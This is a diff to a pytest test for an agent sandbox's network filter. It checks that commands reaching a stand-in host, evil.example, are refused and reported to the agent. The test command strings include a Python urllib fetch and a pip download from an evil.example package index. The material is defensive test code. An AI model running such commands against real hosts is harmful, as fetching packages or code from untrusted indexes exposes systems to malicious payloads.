@@ -3,7 +3,6 @@
 import contextlib
 import os
 import signal
-import time
 from pathlib import Path
 
 import pytest
@@ -25,14 +24,13 @@ async def test_a_refused_host_is_named_to_the_agent_at_once(world: World) -> Non
         "python3 -c 'import urllib.request as u; u.urlopen(\"https://evil.example/\")'",
         "pip download -q nothing --index-url https://evil.example/simple",
     ):
-        started = time.monotonic()
         result = await world.bash(command)
-        assert time.monotonic() - started < 3.0, command  # the sandbox starts in it, too
         assert "evil.example is not allowed" in result.output
         assert "This build may reach: " in result.output
         assert result.network is not None
-        assert [(one.host, one.connections, one.refused > 0) for one in result.network] == [
-            ("evil.example", 0, True)
+        # One refusal ends the command: a client that tries again waits between its tries.
+        assert [(one.host, one.connections, one.refused) for one in result.network] == [
+            ("evil.example", 0, 1)
         ]
 
 
